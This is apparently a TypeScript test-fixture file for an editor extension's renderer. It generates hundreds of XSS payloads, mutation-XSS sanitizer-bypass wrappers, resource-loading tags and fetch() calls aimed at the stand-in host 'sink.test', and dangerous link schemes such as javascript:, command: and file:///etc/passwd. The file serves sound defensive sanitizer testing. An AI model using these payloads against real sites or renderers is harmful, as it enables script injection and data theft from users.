// Texts that try to load something, run something or look like something else, made from parts so that there are many of them.

const target = 'http://sink.test/x';

const elements = [
  `<img src="${target}">`,
  `<img src=x onerror="fetch('${target}')">`,
  `<svg><image href="${target}"/></svg>`,
  `<svg onload="alert(1)">`,
  `<script src="${target}"></script>`,
  `<script>alert(1)</script>`,
  `<iframe src="${target}"></iframe>`,
  `<iframe srcdoc="<img src='${target}'>"></iframe>`,
  `<link rel="stylesheet" href="${target}">`,
  `<style>@import url(${target}); * { background: url(${target}) }</style>`,
  `<div style="background:url(${target})">x</div>`,
  `<object data="${target}"></object>`,
  `<embed src="${target}">`,
  `<video src="${target}" poster="${target}" autoplay></video>`,
  `<audio src="${target}" autoplay></audio>`,
  `<base href="${target}">`,
  `<meta http-equiv="refresh" content="0;url=${target}">`,
  `<form action="${target}"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src="${target}" onerror="alert(1)"></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><img src="${target}"></template>`,
  `<a href="javascript:alert(1)" autofocus onfocus="alert(1)">x</a>`,
  `<details open ontoggle="alert(1)">x</details>`,
  `![x](${target})`,
  `![x][r]\n\n[r]: ${target}`,
  `[![x](${target})](${target})`,
  `![](${target} "title")`,
  `<${target}>`,
  `$\\href{${target}}{x}$`,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "${target}"; A["<img src='${target}'>"]\n\`\`\``,
  `\`\`\`html\n<img src="${target}">\n\`\`\``,
  `\`\`\`"onload="alert(1)\n<img src=${target}>\n\`\`\``,
  `| <img src="${target}"> |\n|---|\n| ![x](${target}) |`,
  `&lt;img src=${target}&gt; &#60;img src=${target}&#62;`,
  `<xmp><img src="${target}"></xmp><plaintext>`,
];

const wrappings: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `text ${inner} text`,
  (inner) => `> ${inner}`,
  (inner) => `- a\n\n  ${inner}`,
  (inner) => `**${inner}**`,
  (inner) => `<div>\n\n${inner}\n\n</div>`,
  (inner) => `# ${inner}`,
];

/** 252 of them; the sink is `sink.test`. */
export const loadingPayloads: readonly string[] = wrappings.flatMap((wrap) => elements.map(wrap));

/** What a parser of HTML reads one way and a second reading another: each closes, reopens or renames what stands around it. */
const mutations: readonly ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}--></style></mglyph></table></mtext></math>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<math><mi><xmp></mi></math></xmp>${inner}`,
  (inner) => `<svg><foreignObject><textarea></foreignObject></svg></textarea>${inner}`,
  (inner) => `<svg><title><![CDATA[</title>${inner}]]>`,
  (inner) => `<svg><desc><noembed></desc></svg></noembed>${inner}`,
  (inner) => `<table><td><svg><style></td></table></style>${inner}`,
  (inner) => `<select><option><style></option></select>${inner}</style>`,
  (inner) => `<p id="a\"><${inner.slice(1)}`,
  (inner) => `<!--><!-- -->${inner}<!---->`,
  (inner) => `<?xml ?><!DOCTYPE x [<!ENTITY y "${inner}">]>&y;`,
  (inner) => `<template><template></template>${inner}`,
  (inner) => `<a href="&#x3c;&#x2f;a&#x3e;${inner}">`,
  (inner) => `<title><a title="</title>${inner}">`,
  (inner) => `\`\`\`\n</code></pre>${inner}\n\`\`\``,
  (inner) => `\`</code>${inner}\``,
  (inner) => `[x]("><${inner.slice(1)})`,
  (inner) => `[x](http://a.test "\"><${inner.slice(1)}")`,
  (inner) => `![">${inner}](x)`,
  (inner) => `<http://a.test/">${inner}>`,
  (inner) => `| ">${inner} |\n|:-"${inner}-|\n| x |`,
  (inner) => `~~~ "><${inner.slice(1)}\nx\n~~~`,
  (inner) => `[r]: http://a.test "${inner}"\n\n[r]`,
  (inner) => `\u0000<\u0000${inner.slice(1)}\ufeff`,
];
const runners = [
  '<img src=x onerror="window.weirRan=1">',
  '<script>window.weirRan=1</script>',
  '<svg onload="window.weirRan=1">',
  '<svg><script>window.weirRan=1</script></svg>',
  '<svg><animate onbegin="window.weirRan=1" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.weirRan=1</script>">',
  '<iframe src="javascript:parent.weirRan=1">',
  '<body onpageshow="window.weirRan=1">',
  '<details open ontoggle="window.weirRan=1"><summary>x</summary></details>',
  '<input autofocus onfocus="window.weirRan=1">',
  '<video><source onerror="window.weirRan=1"></video>',
  '<style onload="window.weirRan=1">*{}</style>',
  '<object data="javascript:window.weirRan=1">',
  '<marquee onstart="window.weirRan=1">x</marquee>',
  '<a href="javascript:window.weirRan=1" autofocus onfocus="window.weirRan=1">x</a>',
  '<style>@keyframes a{}</style><p style="animation:a" onanimationstart="window.weirRan=1">x',
  '<IMG SRC=`x` ONERROR=window.weirRan=1//',
  '<img/src/onerror=window.weirRan=1>',
  '<math href="javascript:window.weirRan=1">x</math>',
  '<meta http-equiv=refresh content="0;url=javascript:window.weirRan=1">',
]; // prettier-ignore

/** 520 of them; what runs sets `window.weirRan`. */
export const mutatingPayloads: readonly string[] = mutations.flatMap((mutate) => runners.map(mutate));

const schemes = [
  'command:weir.setKey', 'COMMAND:workbench.action.terminal.new', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)',
  'vscode://weir.weir/x', 'vscode-insiders://x', 'file:///etc/passwd', 'data:text/html,<script>alert(1)</script>', 'vbscript:x',
  'blob:http://sink.test/1', 'about:blank', 'ftp://sink.test/x', 'mailto:a@sink.test', 'ssh://sink.test', 'ws://sink.test', '//sink.test/x',
  '/etc/passwd', 'src/a.ts#L3', '#top', '?q', 'http:sink.test', 'https://user:secret@sink.test/', 'vscode-resource://x', 'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)', 'http://', 'https://[::1', 'x:y', 'command&colon;weir.stop',
] as const; // prettier-ignore

const linkForms: readonly ((href: string) => string)[] = [
  (href) => `[x](${href})`,
  (href) => `[x](<${href}>)`,
  (href) => `[x](${href} "title")`,
  (href) => `<${href}>`,
  (href) => href,
  (href) => `[x][r]\n\n[r]: ${href}`,
  (href) => `[https://example.com](${href})`,
  (href) => `<a href="${href}">x</a>`,
  (href) => `[**\`x\`**](${href})`,
  (href) => `[x\\](y](${href})`,
];

/** 300 of them, none of which may become something to click but where it is http or https. */
export const linkPayloads: readonly string[] = linkForms.flatMap((form) => schemes.map(form));
